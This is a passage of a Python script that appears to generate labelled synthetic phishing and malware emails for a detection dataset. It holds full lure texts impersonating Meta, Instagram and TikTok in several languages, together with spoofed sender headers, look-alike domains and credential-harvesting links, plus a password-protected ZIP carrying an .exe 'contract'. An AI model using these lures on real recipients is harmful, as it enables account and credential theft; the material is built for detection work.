                         "As part of our ongoing work to protect advertisers, Meta now requires business verification for all Business "
                         "portfolios that run ads or manage a Page with more than 1,000 followers.",
                         "Your business portfolio <b>Studio Lumen Salon</b> (ID 1049382217755108) has not been verified. "
                         "If verification is not completed before <b>February 9, 2025</b>, the following assets will be restricted:",
                         "&bull; Facebook Page: Studio Lumen Salon<br>&bull; Instagram account: @studiolumensalon<br>&bull; Ad account: Studio Lumen Ads (act_2871044512)",
                         "Verification takes about 5 minutes. You will need to confirm your login and the legal name of your business."],
                  button=("Start verification", url),
                  footer=["from", "<b>Meta</b>", "© Meta. Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025",
                          "This message was sent to bookings@studiolumensalon.com. To help keep your account secure, please don't forward this email."])
    body = alt(to_plain(markup), markup, stem, "php")
    build(stem, "phishing",
          "Fake Meta business-verification deadline for a hair salon from the look-alike domain meta-businesshelp.com "
          "(attacker's own server, SPF/DKIM pass) leading to a pages.dev page that harvests the Facebook login.",
          LUMEN, s, Auth(dmarc="none", policy="none"), frm=addr("Meta Business Support", "verification@meta-businesshelp.com"),
          subject="Action required: verify Studio Lumen Salon before Feb 9", sent=sent, body=body,
          extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"])


def _facebook_sender(stem: str, sent: datetime, kind: str, d: str = "facebookmail.com", mf: str = "notification@facebookmail.com") -> Sender:
    n = rint(stem + "fb", 130, 160)
    host, ip = f"66-220-144-{n}.mail-mail.facebook.com", f"66.220.144.{n}"
    trace = [dkim_header(d, "s1024-2013-q3", stem + "fbd", sent,
                         "Date:To:Subject:From:MIME-Version:Content-Type", bits=1024),
             f"Received: from facebook.com ({alnum(stem + 'fbr', 12)} [127.0.0.1])\n\tby facebook.com with Thrift id {hexs(stem + 'fbid', 32)}-{hexs(stem + 'fbid2', 8)};\n\t{fmt(sent, -7 if _us_dst(sent) else -8)}",
             f"X-Facebook: from {alnum(stem + 'xf', 6).lower()} ([{ip}]) by www.facebook.com with HTTPS (ZuckMail);"]
    msgid = f"<{hexs(stem + 'fmid', 40)}@facebookmail.com>"
    return custom(mf, host, ip, trace, [(d, "s1024-2013-q3")], msgid,
                  after=[f"X-Priority: 3", f"X-Mailer: ZuckMail [version 1.00]", f"Errors-To: {mf}",
                         f"X-Facebook-Notify: {kind}; mailid={hexs(stem + 'mail', 24)}G5af{hexs(stem + 'm2', 12)}G0G{rint(stem, 100, 999)}",
                         "X-FACEBOOK-PRIORITY: 0", "X-Auto-Response-Suppress: All", f"Feedback-ID: 0:{kind}:Facebook"])


def a03_facebook_comment_abuse() -> None:
    stem = f"{PREFIX}-phish-facebook-mention-comment-abuse"
    sent = T("2025-05-20 11:08:44 -0700")
    s = _facebook_sender(stem, sent, "mention")
    story = "https://www.facebook.com/nd/?permalink.php%3Fstory_fbid%3Dpfbid02Xk7rT9eWqjzmA4bVt1cN5fRhD8yLsEoUgK2pHvYwQ6n%26id%3D61566128840221%26comment_id%3D1172044378912345&aref=1747764524204113&medium=email&mid=" + hexs(stem + "mid", 13) + "G5af" + hexs(stem + "m3", 10)
    phish = "https://l.facebook.com/l.php?u=https%3A%2F%2Fpages-appeal-centre.web.app%2F%3Fid%3D61566128840221&h=AT" + alnum(stem + "lh", 40)
    comment = ("Jayden Cole Fit - your Page has been reported for infringing the trademark of another brand. "
               "If you do not submit an appeal within 24 hours, your Page will be permanently disabled. "
               f"Submit your appeal here: <a href=\"{phish}\" style=\"color:#385898;text-decoration:none\">pages-appeal-centre.web.app/?id=61566128840221</a>")
    markup = f"""<!DOCTYPE html><html><head><title>Facebook</title><meta http-equiv="Content-Type" content="text/html; charset=utf-8" /><style nonce="{alnum(stem + 'n', 8)}">@media all and (max-width: 480px){{*[class].ib_t{{min-width:100% !important}}}}</style></head>
<body style="margin:0;padding:0;" dir="ltr" bgcolor="#ffffff"><table border="0" cellspacing="0" cellpadding="0" align="center" id="email_table" style="border-collapse:collapse;"><tr><td id="email_content" style="font-family:Helvetica Neue,Helvetica,Lucida Grande,tahoma,verdana,arial,sans-serif;background:#ffffff;">
<table border="0" width="100%" cellspacing="0" cellpadding="0" style="border-collapse:collapse;"><tr><td height="20" style="line-height:20px;" colspan="3">&nbsp;</td></tr>
<tr><td height="1" colspan="3" style="line-height:1px;"></td></tr><tr><td><table border="0" width="100%" cellspacing="0" cellpadding="0" style="border-collapse:collapse;border:solid 1px #FFFFFF;border-radius:6px;"><tr><td width="15" style="display:block;width:15px;">&nbsp;&nbsp;&nbsp;</td><td>
<table border="0" width="100%" cellspacing="0" cellpadding="0" style="border-collapse:collapse;"><tr><td height="16" style="line-height:16px;">&nbsp;</td></tr>
<tr><td width="32" align="left" valign="middle" style="height:32;line-height:0px;"><a href="https://www.facebook.com/?aref=1747764524204113&amp;medium=email" style="color:#1b74e4;text-decoration:none;"><img src="https://static.xx.fbcdn.net/rsrc.php/v4/yD/r/ZEzOK1tgA7j.png" width="32" height="32" style="border:0;" /></a></td></tr>
<tr><td height="16" style="line-height:16px;">&nbsp;</td></tr>
<tr><td style="font-size:17px;font-family:Roboto,Arial,sans-serif;color:#050505;line-height:22px;"><span style="color:#050505;font-weight:bold;">Meta Ads Review Center</span> mentioned you in a comment.</td></tr>
<tr><td height="12" style="line-height:12px;">&nbsp;</td></tr>
<tr><td style="font-size:15px;font-family:Roboto,Arial,sans-serif;color:#65676B;line-height:20px;border-left:3px solid #e4e6eb;padding-left:12px;">{comment}</td></tr>
<tr><td height="20" style="line-height:20px;">&nbsp;</td></tr>
<tr><td><table border="0" cellspacing="0" cellpadding="0" style="border-collapse:collapse;"><tr><td style="border-radius:6px;background:#1B74E4;padding:8px 16px;"><a href="{story}" style="color:#ffffff;text-decoration:none;font-weight:bold;font-size:15px;font-family:Roboto,Arial,sans-serif;">See comment</a></td></tr></table></td></tr>
<tr><td height="32" style="line-height:32px;">&nbsp;</td></tr>
<tr><td style="font-size:12px;font-family:Roboto,Arial,sans-serif;color:#8A8D91;line-height:16px;">This message was sent to <a href="mailto:team@jaydencolefit.com" style="color:#1b74e4;text-decoration:none;">team@jaydencolefit.com</a>. If you don't want to receive these emails from Meta in the future, please <a href="https://www.facebook.com/o.php?k=AS{alnum(stem + 'k', 20)}&amp;u=61550311823390&amp;mid={hexs(stem + 'mid', 13)}" style="color:#1b74e4;text-decoration:none;">unsubscribe</a>.<br />Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</td></tr>
<tr><td height="20" style="line-height:20px;">&nbsp;</td></tr></table></td><td width="15" style="display:block;width:15px;">&nbsp;&nbsp;&nbsp;</td></tr></table></td></tr></table>
<span><img src="https://www.facebook.com/email_open_log_pic.php?mid={hexs(stem + 'mid', 13)}G5af{hexs(stem + 'm3', 10)}" style="border:0;width:1px;height:1px;" /></span></td></tr></table></body></html>
"""
    plain = ("Meta Ads Review Center mentioned you in a comment.\n\n"
             "\"Jayden Cole Fit - your Page has been reported for infringing the trademark of another brand. If you do not submit an appeal "
             "within 24 hours, your Page will be permanently disabled. Submit your appeal here: pages-appeal-centre.web.app/?id=61566128840221\"\n\n"
             f"See comment: {story}\n\n"
             "This message was sent to team@jaydencolefit.com. If you don't want to receive these emails from Meta in the future, please unsubscribe.\n"
             "Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025\n")
    body = alt(plain, markup, stem, "fb")
    build(stem, "phishing",
          "Genuine Facebook mention notification (facebookmail.com, passes authentication) abused by an attacker page named "
          "'Meta Ads Review Center' whose comment tells the creator to appeal a fake page suspension on a web.app phishing site.",
          JAY, s, Auth(policy="reject"), frm=addr("Facebook", "notification@facebookmail.com"),
          subject="Meta Ads Review Center mentioned you in a comment", sent=sent, body=body,
          to=addr("Jayden Cole", "team@jaydencolefit.com"),
          extra=[f"List-Unsubscribe: <https://www.facebook.com/o.php?k=AS{alnum(stem + 'k', 20)}&u=61550311823390&mid={hexs(stem + 'mid', 13)}>,<mailto:unsubscribe-{hexs(stem + 'u', 20)}@facebookmail.com>",
                 "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])


def a04_meta_es_compromised() -> None:
    stem = f"{PREFIX}-phish-meta-derechos-autor-es"
    sent = T("2025-10-02 13:17:30 +0200")
    s = outlook("secretaria@autoescuelalavia.es", sent, stem, consumer=False, region="EUR", tenant="autoescuelalavia")
    url = "https://sites.google.com/view/meta-soporte-apelacion-2025/inicio"
    paras = ["Estimado/a administrador/a de la página <b>Pastelería Dulce Vida</b>:",
             "Le informamos que su página ha recibido una reclamación por infracción de derechos de autor relacionada con varias "
             "fotografías publicadas en las últimas semanas. Según nuestras Normas Comunitarias, las páginas con reclamaciones "
             "sin resolver se desactivan de forma permanente.",
             "Si considera que se trata de un error, puede presentar una apelación antes de 48 horas a través del siguiente enlace:",
             f'<a href="{url}" target="_blank" rel="noopener noreferrer" data-auth="NotApplicable">Centro de apelaciones de Meta – Caso #88412093</a>',
             "Si no recibimos su apelación en el plazo indicado, la página y los anuncios asociados se eliminarán sin posibilidad de recuperación.",
             "Atentamente,<br>Equipo de Soporte de Meta Business"]
    markup = outlook_html(paras)
    body = alt(to_plain(markup), markup, stem, "outlook")
    build(stem, "phishing",
          "Spanish Meta copyright-violation page-deactivation notice to a Madrid pastry shop, sent from a compromised driving-school "
          "Microsoft 365 mailbox (authentication passes) with the appeal link on a Google Sites phishing page.",
          DULCE, s, Auth(policy="none"), frm=addr("Meta Business Suite", "secretaria@autoescuelalavia.es"),
          subject="Aviso: infracción de derechos de autor – Pastelería Dulce Vida (Caso #88412093)", sent=sent, body=body,
          to="hola@dulcevidamadrid.es", lang="es-ES")


def a05_meta_it_gmail() -> None:
    stem = f"{PREFIX}-phish-meta-pagina-disattivata-it"
    sent = T("2025-04-11 08:52:19 +0200")
    s = gmail("supporto.pagine.meta@gmail.com", sent, stem, RINA)
    url = "https://pagina-revisione-meta.web.app/ricorso?id=100064582231907"
    plain = ("Gentile amministratore,\n\n"
             "la Pagina \"Trattoria da Rina\" è stata segnalata per violazione degli Standard della community di Meta "
             "(uso non autorizzato di marchi registrati).\n\n"
             "Per evitare la disattivazione definitiva della Pagina è necessario presentare ricorso entro 24 ore:\n"
             f"{url}\n\n"
             "Dopo la scadenza la Pagina e tutte le recensioni collegate non saranno più recuperabili.\n\n"
             "Cordiali saluti,\nTeam Supporto Pagine Meta\nMeta Platforms Ireland Ltd.\n")
    markup = simple_html(["Gentile amministratore,",
                          "la Pagina &quot;Trattoria da Rina&quot; è stata segnalata per violazione degli Standard della community di Meta "
                          "(uso non autorizzato di marchi registrati).",
                          f"Per evitare la disattivazione definitiva della Pagina è necessario presentare ricorso entro 24 ore:<br>"
                          f'<a href="{url}">{url}</a>',
                          "Dopo la scadenza la Pagina e tutte le recensioni collegate non saranno più recuperabili.",
                          "Cordiali saluti,<br>Team Supporto Pagine Meta<br>Meta Platforms Ireland Ltd."])
    body = alt(plain, markup, stem, "gmail")
    build(stem, "phishing",
          "Italian 'your Facebook Page will be deactivated, appeal within 24 hours' notice to a Bologna trattoria from a free Gmail "
          "account posing as Meta support, linking to a Firebase-hosted (web.app) login page.",
          RINA, s, Auth(policy="none"), frm=addr("Meta Supporto Pagine", "supporto.pagine.meta@gmail.com"),
          subject="La tua Pagina verrà disattivata - ricorso richiesto", sent=sent, body=body, order="gmail",
          to="info@trattoriadarina.it")


def a06_instagram_pdf() -> None:
    stem = f"{PREFIX}-phish-instagram-impersonation-pdf"
    sent = T("2025-07-08 22:14:03 +0000")
    s = outlook("ig.reportdesk.notices@outlook.com", sent, stem, consumer=True, region="NAM")
    url = "https://instagram-verify-center.netlify.app/case/IG-58213?u=priyamakes"
    pdf_bytes = files.pdf(["Instagram", "", "Notice of Impersonation Report", "Case: IG-58213", "",
                           "Account: @priyamakes",
                           "Your account was reported for impersonating a public figure or brand.",
                           "Accounts that impersonate others violate the Instagram Community Guidelines.",
                           "If you believe this report is a mistake, confirm your account ownership",
                           "within 24 hours using the button below. Otherwise your account",
                           "will be permanently removed and your username released.", "",
                           "Instagram from Meta", "1601 Willow Road, Menlo Park, CA 94025"],
                          link=(url, (56, 520, 300, 556)), title="Instagram Report IG-58213")
    paras = ["Hello,",
             "Your Instagram account @priyamakes has been reported for impersonation. Please read the attached notice and confirm your "
             "account ownership within 24 hours to avoid permanent removal.",
             "Instagram Help Center"]
    markup = outlook_html(paras)
    body = Multi("mixed", bnd("outlook_mixed", stem), [
        alt(to_plain(markup), markup, stem, "outlook"),
        attachment("application/pdf", "Instagram_Report_IG-58213.pdf", pdf_bytes),
    ])
    build(stem, "phishing",
          "Instagram 'reported for impersonation' notice from a free outlook.com address with a PDF attachment whose button opens a "
          "Netlify-hosted Instagram login page.",
          PRIYA, s, Auth(policy="none"), frm=addr("Instagram Help Center", "ig.reportdesk.notices@outlook.com"),
          subject="Your account has been reported - Case IG-58213", sent=sent, body=body, has_attach=True,
          to="priya@priyamakes.com")


def a07_instagram_copyright_sendgrid() -> None:
    stem = f"{PREFIX}-phish-instagram-copyright-lookalike"
    sent = T("2024-11-19 15:33:12 +0000")
    s = sendgrid("igcopyright-help.com", sent, stem)
    short = "https://t.ly/IGcs-7731950"
    markup = card(brand="Instagram", color="#0095f6", heading="Copyright infringement notice",
                  preheader="We received a copyright complaint about your post",
                  paras=["Hi jaydencolefit,",
                         "We have received a notice that your recent post (reel from November 17, 2024) contains audio and video content "
                         "protected by copyright owned by a third party. As a result, this post will be removed and a strike will be added to your account.",
                         "Accounts that receive repeated copyright strikes may be permanently disabled, including access to Instagram "
                         "Shopping and the Creator Marketplace.",
                         "If you believe that we made a mistake, you can file a counter-notification. We will review it within 48 hours."],
                  button=("File counter-notification", short),
                  after_button=["Case number: IG-7731950"],
                  footer=["© Instagram from Meta", "Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025",
                          "This message was sent to team@jaydencolefit.com and intended for jaydencolefit."],
                  pixel=f"https://u{rint(stem, 10000000, 49999999)}.ct.sendgrid.net/wf/open?upn={urlsafe(stem + 'open', 120)}")
    body = alt(to_plain(markup), markup, stem, "sg")
    build(stem, "phishing",
          "Instagram copyright-strike notice from the look-alike domain igcopyright-help.com sent through the attacker's SendGrid "
          "account (SPF/DKIM pass), with a t.ly short link to a fake counter-notification login.",
          JAY, s, Auth(dmarc="none", policy="none"), frm=addr("Instagram", "no-reply@igcopyright-help.com"),
          subject="Copyright infringement notice on your post (Case IG-7731950)", sent=sent, body=body,
          to="team@jaydencolefit.com")


def _brevo(from_dom: str, sent: datetime, stem: str) -> Sender:
    ip = f"1.179.{rint(stem + 'bva', 112, 127)}.{rint(stem + 'bvb', 1, 250)}"
    host = f"smtp-relay-{rint(stem + 'bh', 1, 40)}.brevo.com"
    mf = f"{alnum(stem + 'bmf', 20).lower()}@bounces.{from_dom}"
    trace = [dkim_header(from_dom, "brevo1", stem + "bd1", sent, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:List-Unsubscribe"),
             dkim_header("sendibm1.com", "mail", stem + "bd2", sent, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", bits=1024)]
    msgid = f"<{hexs(stem + 'bm', 12)}-{hexs(stem + 'bm2', 4)}@smtp-relay.mailin.fr>"
    after = ["X-Mailer: Brevo", f"X-sib-id: {alnum(stem + 'sib', 60)}", f"X-CSA-Complaints: csa-complaints@eco.de",
             f"Feedback-ID: {rint(stem + 'fid', 100, 999)}:{rint(stem + 'fid2', 1000000, 9999999)}:campaign:Brevo",
             f"Origin-messageId: <{hexs(stem + 'om', 24)}@{from_dom}>"]
    return custom(mf, host, ip, trace, [(from_dom, "brevo1"), ("sendibm1.com", "mail")], msgid, after)


def a08_instagram_fr_ipfs() -> None:
    stem = f"{PREFIX}-phish-instagram-droits-auteur-ipfs-fr"
    sent = T("2025-09-23 10:05:41 +0200")
    s = _brevo("centre-droits-instagram.fr", sent, stem)
    url = "https://bafybeihq3lmk6xqv2tgxw5ohx4t7cbr2znqkq7rcc6j3a5dyoe4ktrvw2u.ipfs.dweb.link/appel.html#camille@ateliercamille.fr"
    track = f"https://{alnum(stem + 'tr', 6).lower()}.r.sp1-brevo.net/mk/cl/f/{urlsafe(stem + 'cl', 90)}"
    markup = card(brand="Instagram", color="#0095f6", lang="fr", heading="Avis de violation des droits d'auteur",
                  preheader="Votre publication a été signalée par un titulaire de droits",
                  paras=["Bonjour ateliercamille,",
                         "Nous avons reçu une plainte d'un titulaire de droits concernant une photo publiée sur votre compte le 19 septembre 2025. "
                         "Conformément à nos Conditions d'utilisation, la publication a été masquée et un avertissement a été ajouté à votre compte.",
                         "Sans contestation de votre part sous <b>48 heures</b>, votre compte professionnel sera désactivé et votre boutique Instagram "
                         "ne sera plus visible.",
                         "Vous pouvez contester cette décision en confirmant votre identité :"],
                  button=("Contester la décision", url),
                  footer=["© 2025 Instagram from Meta", "Meta Platforms Ireland Ltd., Merrion Road, Dublin 4, D04 X2K5, Irlande",
                          "Ce message a été envoyé à camille@ateliercamille.fr."],
                  pixel=f"https://{alnum(stem + 'tr', 6).lower()}.r.sp1-brevo.net/tr/op/{urlsafe(stem + 'op', 60)}")
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "French Instagram copyright-strike notice to a WooCommerce shop from the look-alike domain centre-droits-instagram.fr via the "
          "attacker's Brevo account, its button pointing at a phishing page on an IPFS gateway (dweb.link).",
          CAM, s, Auth(dmarc="none", policy="none"), frm=addr("Instagram", "avis@centre-droits-instagram.fr"),
          subject="Avis de violation des droits d'auteur – action requise sous 48 h", sent=sent, body=body,
          to="camille@ateliercamille.fr", lang="fr-FR",
          extra=[f"List-Unsubscribe: <https://{alnum(stem + 'tr', 6).lower()}.r.sp1-brevo.net/tr/un/{urlsafe(stem + 'un', 40)}>",
                 "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])
    del track


def a09_tiktok_shop_mailgun() -> None:
    stem = f"{PREFIX}-phish-tiktok-shop-suspension"
    sent = T("2025-03-18 14:26:50 +0000")
    s = mailgun("mg.tiktokshop-sellercenter.com", "tiktokshop-sellercenter.com", sent, stem)
    url = f"https://email.mg.tiktokshop-sellercenter.com/c/{urlsafe(stem + 'mgc', 140)}"
    markup = card(brand="TikTok Shop", color="#fe2c55", heading="Your shop has been deactivated",
                  preheader="Shipping performance violation - submit an appeal within 72 hours",
                  paras=["Dear Seller,",
                         "Your shop <b>Maple &amp; Moss Candles</b> (Shop ID 7495512084431) has been deactivated due to a violation of the "
                         "TikTok Shop Fulfillment Policy: Late Dispatch Rate above 10% in the last 14 days.",
                         "While your shop is deactivated, products are hidden from TikTok, affiliate creators cannot promote your products, "
                         "and pending settlements are frozen.",
                         "You can appeal this decision from Seller Center within 72 hours. After this period the decision becomes final and "
                         "your settlement balance will be held for 90 days."],
                  button=("Appeal in Seller Center", url),
                  footer=["TikTok Shop Seller Center", "5800 Bristol Parkway, Culver City, CA 90230",
                          "This is an automatic email. Please do not reply."],
                  pixel=f"https://email.mg.tiktokshop-sellercenter.com/o/{urlsafe(stem + 'mgo', 90)}")
    body = alt(to_plain(markup), markup, stem, "mg")
    build(stem, "phishing",
          "TikTok Shop 'shop deactivated for late dispatch, appeal within 72 hours' notice to a Shopify candle shop from the look-alike "
          "tiktokshop-sellercenter.com through Mailgun, with click-tracking to a fake Seller Center login.",
          MM, s, Auth(dmarc="none", policy="none"), frm=addr("TikTok Shop Seller Center", "seller-support@tiktokshop-sellercenter.com"),
          subject="[Action Required] Your TikTok Shop has been deactivated - Shipping Performance Violation", sent=sent, body=body,
          to="hannah@mapleandmoss.co")


def a10_tiktok_ads_wp() -> None:
    stem = f"{PREFIX}-phish-tiktok-ads-compromised-wp"
    sent = T("2025-01-27 19:48:02 -0600")
    srv = "gator4123.hostgator.com"
    trace = [dkim_header("ridgecrestdental.com", "default", stem + "wpd", sent,
                         "Content-Transfer-Encoding:Content-Type:MIME-Version:Message-ID:\n\tReply-To:From:Subject:To:Date:Sender:Cc:Content-ID:Content-Description:\n\tResent-Date:Resent-From:Resent-Sender:Resent-To:Resent-Cc:Resent-Message-ID:\n\tIn-Reply-To:References:List-Id:List-Help:List-Unsubscribe:List-Subscribe:\n\tList-Post:List-Owner:List-Archive"),
             f"Received: from ridgecre by {srv} with local (Exim 4.98)\n\t(envelope-from <ridgecre@{srv}>)\n\tid 1tcK{alnum(stem + 'ex', 2)}-{alnum(stem + 'ex2', 7)}-{alnum(stem + 'ex3', 2)}\n\tfor team@jaydencolefit.com;\n\t{fmt(sent)}"]
    s = custom(f"ridgecre@{srv}", srv, "192.185.145.212", trace, [("ridgecrestdental.com", "default")],
               f"<{alnum(stem + 'pm', 40)}@ridgecrestdental.com>",
               after=["X-Mailer: PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)",
                      "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
                      f"X-AntiAbuse: Primary Hostname - {srv}", "X-AntiAbuse: Original Domain - jaydencolefit.com",
                      "X-AntiAbuse: Originator/Caller UID/GID - [3124 992] / [47 12]", f"X-AntiAbuse: Sender Address Domain - {srv}",
                      "X-Get-Message-Sender-Via: gator4123.hostgator.com: authenticated_id: ridgecre/from_h",
                      "X-Authenticated-Sender: gator4123.hostgator.com: noreply@ridgecrestdental.com"])
    url = "https://ridgecrestdental.com/wp-content/uploads/2024/11/tt/business/login.php?acc=7441092285513"
    markup = card(brand="TikTok for Business", color="#000000", heading="Your ad account has been suspended",
                  paras=["Hi Jayden Cole,",
                         "We were unable to verify the payment method for your ad account <b>JCF Ads</b> (ID 7441092285513). "
                         "To protect our advertisers, all active campaigns have been paused and the account has been suspended.",
                         "To restore delivery, please log in to TikTok Ads Manager and verify your billing information within 48 hours. "
                         "If no action is taken your remaining balance of <b>$312.48</b> cannot be refunded."],
                  button=("Verify billing", url),
                  footer=["TikTok for Business", "© 2025 TikTok. All rights reserved.", "5800 Bristol Parkway, Culver City, CA 90230"])
    body = alt(to_plain(markup), markup, "b53tt", "php")
    build(stem, "phishing",
          "TikTok Ads 'ad account suspended, verify billing' notice to a fitness creator sent by PHPMailer from a compromised dental "
          "practice WordPress site on shared hosting, with the fake Ads Manager login hosted in that site's wp-content/uploads.",
          JAY, s, Auth(spf="pass", dmarc="pass", policy="none"), frm=addr("TikTok for Business", "noreply@ridgecrestdental.com"),
          subject="Your ad account has been suspended: payment verification required", sent=sent, body=body,
          to="team@jaydencolefit.com")


def _mandrill(from_dom: str, sent: datetime, stem: str) -> Sender:
    a, b = rint(stem + "ma", 1, 254), rint(stem + "mb", 130, 141)
    host, ip = f"mail{b}-{a % 30}.atl{rint(stem + 'atl', 131, 141)}.mandrillapp.com", f"198.2.{b}.{a % 30}"
    uid = rint(stem + "muid", 30000000, 31999999)
    mf = f"bounce-md_{uid}.{hexs(stem + 'mb1', 8)}.v1-{hexs(stem + 'mb2', 32)}@mandrillapp.com"
    trace = [dkim_header("mandrillapp.com", "mandrill", stem + "md1", sent, "From:Subject:Message-Id:To:Date:MIME-Version:Content-Type;", bits=1024),
             dkim_header(from_dom, "mte1", stem + "md2", sent, "From:Subject:Message-Id:To:Date:MIME-Version:Content-Type;"),
             f"Received: from pmta{rint(stem + 'pm', 10, 40)}.mandrill.prod.atl01.rsglab.com (localhost [127.0.0.1])\n\tby {host} (Mailchimp) with ESMTP id 4{alnum(stem + 'mid', 11)}\n\tfor <{{rcpt_addr}}>; {fmt(sent, 0)}",
             f"Received: from [{rint(stem + 'r1', 10, 200)}.{rint(stem + 'r2', 1, 254)}.{rint(stem + 'r3', 1, 254)}.{rint(stem + 'r4', 1, 254)}] by mandrillapp.com id {hexs(stem + 'mid2', 32)}; {fmt(sent, 0)}"]
    msgid = f"<{hexs(stem + 'mmid', 32)}.{hexs(stem + 'mmid2', 8)}@mandrillapp.com>"
    after = ["X-Mailer: Mailchimp Transactional", "X-Report-Abuse: Please forward a copy of this message, including all headers, to abuse@mandrill.com.",
             f"X-Report-Abuse: You can also report abuse here: https://mandrillapp.com/contact/abuse?id={uid}.{hexs(stem + 'mb2', 32)}",
             f"X-Mandrill-User: md_{uid}", f"Feedback-ID: {uid}:{uid}.{sent.strftime('%Y%m%d')}:md"]
    return custom(mf, host, ip, trace, [("mandrillapp.com", "mandrill"), (from_dom, "mte1")], msgid, after)


def a11_tiktok_shop_de() -> None:
    stem = f"{PREFIX}-phish-tiktok-shop-partner-de"
    sent = T("2025-06-03 10:12:40 +0200")
    s = _mandrill("tiktokshop-partnerhub.com", sent, stem)
    click = f"https://mandrillapp.com/track/click/{rint(stem + 'muid', 30000000, 31999999)}/tiktokshop-partnerhub.com?p={urlsafe(stem + 'p', 220)}"
    markup = card(brand="TikTok Shop", color="#fe2c55", lang="de", heading="Einladung: Gründungs-Verkäufer TikTok Shop Deutschland",
                  preheader="0 % Verkaufsprovision für 90 Tage – nur noch bis 10. Juni",
                  paras=["Hallo Jonas Hansen,",
                         "TikTok Shop ist seit März 2025 in Deutschland verfügbar. Unser Partner-Team hat Ihren Shopify-Shop "
                         "<b>Kaffeerösterei Hansen</b> als Marke mit hoher Creator-Nachfrage ausgewählt.",
                         "Als Gründungs-Verkäufer erhalten Sie:<br>&bull; 0 % Verkaufsprovision für 90 Tage<br>&bull; einen persönlichen "
                         "Account-Manager<br>&bull; bevorzugten Zugang zum Affiliate-Marktplatz mit über 4.000 deutschen Creators",
                         "Um Ihren Platz zu sichern, melden Sie sich bitte bis zum <b>10. Juni</b> mit Ihrem TikTok-Konto an und verknüpfen Ihren Shop."],
                  button=("Platz sichern", click),
                  footer=["TikTok Shop Partner Team", "TikTok Technology Limited, 10 Earlsfort Terrace, Dublin, D02 T380, Irland",
                          "Sie erhalten diese E-Mail, weil Ihr Shop öffentlich auf Shopify gelistet ist."],
                  pixel=f"https://mandrillapp.com/track/open.php?u={rint(stem + 'muid', 30000000, 31999999)}&id={hexs(stem + 'o', 32)}")
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "phishing",
          "German TikTok Shop 'founding seller, 0% commission' invitation to a coffee roaster from the look-alike tiktokshop-partnerhub.com "
          "via the attacker's Mailchimp Transactional (Mandrill) account; the tracked link leads to a TikTok login harvester.",
          HANSEN, s, Auth(dmarc="none", policy="none"), frm=addr("TikTok Shop Partner Team", "partner@tiktokshop-partnerhub.com"),
          subject="Einladung: TikTok Shop Deutschland – 0 % Provision für Gründungs-Verkäufer", sent=sent, body=body,
          to="info@roesterei-hansen.de", lang="de-DE")


def a12_yt_sponsor_zip() -> None:
    stem = f"{PREFIX}-phish-yt-sponsor-encrypted-zip"
    sent = T("2025-02-19 17:03:26 +0000")
    s = gmail("elise.navarro.lumora@gmail.com", sent, stem, PRIYA_C)
    guide = files.pdf(["Lumora VPN - Creator Integration Guidelines", "", "Integration length: 60-90 seconds",
                       "Placement: first third of the video", "Talking points: see the contract file", "Tracking link: provided after signature"],
                      title="Integration Guidelines")
    archive = zipcrypto([("Lumora_Sponsorship_Contract_2025.exe", files.pe_stub() + b"\x00" * 4096),
                         ("Integration_Guidelines.pdf", guide)], "LUMORA2025", stem)
    plain = ("Hi Priya,\n\n"
             "I'm Elise, partnerships manager at Lumora VPN. Our team has been following Priya Makes for a while - the resin "
             "coaster series was fantastic, and your audience is exactly who we want to reach for our spring campaign.\n\n"
             "We'd like to offer a paid integration in one of your upcoming videos:\n"
             "- 60-90 second integration in the first third of the video\n"
             "- Fee: $3,800 USD (50% upfront after signature)\n"
             "- Publishing window: March 10 - March 31\n\n"
             "The contract, talking points and integration guidelines are in the attached archive. Our legal department requires "
             "encryption for contracts, the password is: LUMORA2025\n\n"
             "If everything looks good, just reply with your PayPal or bank details for the upfront payment.\n\n"
             "Best regards,\nElise Navarro\nPartnerships Manager | Lumora VPN\n")
    markup = simple_html([esc(p).replace("\n", "<br>") for p in plain.strip().split("\n\n")])
    body = Multi("mixed", bnd("gmail", stem + "mx"), [
        alt(plain, markup, stem, "gmail"),
        attachment("application/zip", "Lumora_Sponsorship_Package.zip", archive),
    ])
    build(stem, "malware",
          "YouTube sponsorship offer from a Gmail 'partnerships manager' of an invented VPN brand with a password-protected ZIP "
          "(password in the body) holding an .exe 'contract', the infostealer pattern aimed at creators.",
          PRIYA_C, s, Auth(policy="none"), frm=addr("Elise Navarro", "elise.navarro.lumora@gmail.com"),
          subject="Paid collaboration proposal: Lumora VPN x Priya Makes", sent=sent, body=body, order="gmail",
          to="collabs@priyamakes.com")


def a13_yt_sponsor_dropbox() -> None:
    stem = f"{PREFIX}-phish-yt-sponsor-game-beta-dropbox"
    sent = T("2025-08-27 12:40:18 +0200")
    s = gmail("adrian@nordvale-games.com", sent, stem, SAM, domain_sig="nordvale-games.com")
    first = "<CAKq7vR3mP2xBn8fZ1yW9sD4eL6tG0hJ5cN@mail.gmail.com>"
    second = "<1937f2c4e2a.b3d8a91f.8842017743106524213@geardropreviews.com>"
    link = "https://www.dropbox.com/scl/fi/8k2vq1x7n3m0pz5rt4wcd/NordvaleBeta_Setup_v0.9.4.zip?rlkey=5yq3w9hf2k8mz1c7xv0bn6tpl&st=r2d9kq4m&dl=1"
    plain = ("Hi Sam,\n\n"
             "Great news - marketing approved your rate of $2,400 for a dedicated 8-10 minute video. We'd love to have it live "
             "before our Steam Next Fest demo on September 15.\n\n"
             "Here's the closed beta build for your review (Windows only for now, ~1.2 GB):\n"
             f"{link}\n"
             "Archive password: NV2025\n\n"
             "When you run the launcher, log in with the key below so we can link your playtime to the campaign:\n"
             "Beta key: NVB-8K2Q-77PD-GEAR\n\n"
             "I'll send the contract via DocuSign once you confirm the build works on your setup.\n\n"
             "Cheers,\nAdrian Kessler\nInfluencer Partnerships | Nordvale Games\n\n"
